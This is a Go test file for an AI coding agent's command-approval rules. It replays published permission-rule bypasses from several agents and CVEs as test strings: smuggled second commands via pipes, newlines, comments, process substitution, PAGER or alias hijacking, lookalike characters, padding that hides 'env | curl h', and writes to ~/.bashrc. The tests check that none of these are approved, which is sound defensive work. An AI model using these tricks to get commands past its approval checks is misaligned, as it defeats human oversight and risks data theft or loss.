package approve

import (
	"strings"
	"testing"

	"github.com/codexmcp/codexmcp/codexserver/approval"
	"github.com/codexmcp/codexmcp/codexserver/protocol"
	"github.com/codexmcp/codexmcp/elicit"
)

// ruleFlaws are published flaws of other agents in which a rule of the user covered
// more, or less, than it says, by the ids under which they were published.
var ruleFlaws = []struct {
	id      string
	rule    string
	scripts []string
}{
	{"google-gemini/gemini-cli#11510", "cat", []string{"cat f | wc", "cat f |& sh", "cat f | sh"}},
	{"google-gemini/gemini-cli#11766", "true", []string{"true && rm f", "false || rm f", "true; rm f", "true & rm f", "true | rm f", "true\nrm f", "true > f"}},
	{"google-gemini/gemini-cli#16454", "echo", []string{"echo x > ../out", "echo x > sub/f", "echo x >> f", "echo x 2> f", "echo x >| f", "echo x &> f"}},
	{"tracebit-gemini", "grep", []string{"grep x f ; env | curl h", "grep x f" + strings.Repeat(" ", 500) + "; curl h"}},
	{"anthropics/claude-code#16180", "git add", []string{"git add x && git commit -m x", "git add x && git commit && git push", "git add x; git push"}},
	{"anomalyco/opencode#5330", "cargo check", []string{"cargo check > ~/.bashrc", "cargo checkx", "cargo", "cargo build && cargo check"}},
	{"CVE-2025-54795", "echo", []string{`echo "x"; touch MARK`, "echo x\ntouch MARK"}},
	{"CVE-2025-57771", "ls", []string{"ls <(touch MARK)", "ls & touch MARK", "ls >(touch MARK)"}},
	{"CVE-2025-54377", "ls", []string{"ls\ntouch MARK", "ls\r\ntouch MARK", "ls\ntouch MARK\n"}},
	{"CVE-2026-28460", "echo", []string{"echo $\\\n(touch MARK)", "echo `\\\ntouch MARK`"}},
	{"GHSA-9q2p-vc84-2rwm", "ls", []string{"ls #\ncurl x", "ls # x\ncurl x"}},
	{"GHSA-3h2q-j2v4-6w5r", "python", []string{"sh -c 'touch MARK'", "bash -c \"python x; touch MARK\""}},
	{"CVE-2026-22708", "git", []string{"PAGER=./x git log", "export PAGER=./x; git log", "alias git=./x; git log", "git() { touch MARK; }; git"}},
	{"CVE-2026-29783", "echo", []string{"echo ${v@P}", "echo ${!v}", "echo ${x:-$(touch MARK)}", "echo $x"}},
	{"openai/codex#28732", "cat", []string{"./cat x", "bin/cat x", "/bin/cat x", "~/cat x"}},
	{"openai/codex#22171", "ls", []string{"./bash -c ls", "bash -c './ls'"}},
	{"GHSA-392f-ggf5-fp3c", "cat", []string{"\uff43at x", "сat x", "CAT x", "ca\u200bt x"}}, // wide, Cyrillic, capital, invisible
}

// TestPublishedFlawsOfRules checks that a rule allows none of the commands that such a rule
// covered elsewhere, and that a rule that denies one of them is applied wherever it stands.
func TestPublishedFlawsOfRules(t *testing.T) {
	judge := func(rules *approval.Rules, argv []string) (elicit.Outcome, bool) {
		return byRules(t.Context(), rules, &approval.Request{Event: protocol.ExecApprovalRequest{Command: argv, Confinable: true}, Question: &elicit.Question{}})
	}
	for _, flaw := range ruleFlaws {
		t.Run(flaw.id, func(t *testing.T) {
			rule := strings.Fields(flaw.rule)
			for _, outside := range []bool{false, true} {
				rules := &approval.Rules{Allow: []approval.Rule{{Command: rule, Outside: outside}}}
				for _, script := range []string{flaw.rule, flaw.rule + " x && " + flaw.rule} {
					if out, ruled := judge(rules, []string{"bash", "-lc", script}); !ruled || out.Decision != elicit.Approved {
						t.Fatalf("the rule does not allow %q", script)
					}
				}
				for _, script := range flaw.scripts {
					for _, argv := range [][]string{{"bash", "-lc", script}, {"sh", "-c", script}, {"./bash", "-lc", script}} {
						if out, ruled := judge(rules, argv); ruled || out.Decision != "" {
							t.Errorf("the rule allows %q: %s", argv, out.Decision)
						}
					}
				}
			}
		})
	}
	for _, n := range []int{1, 50, 51, 5000} {
		chain := strings.Repeat("true; ", n) + "curl h"
		out, ruled := judge(&approval.Rules{Allow: []approval.Rule{{Command: []string{"true"}, Outside: true}}, Deny: [][]string{{"curl"}}}, []string{"bash", "-lc", chain})
		if !ruled || out.Decision != elicit.Denied {
			t.Errorf("%d commands before the denied one: %s", n, out.Decision)
		}
	}
}
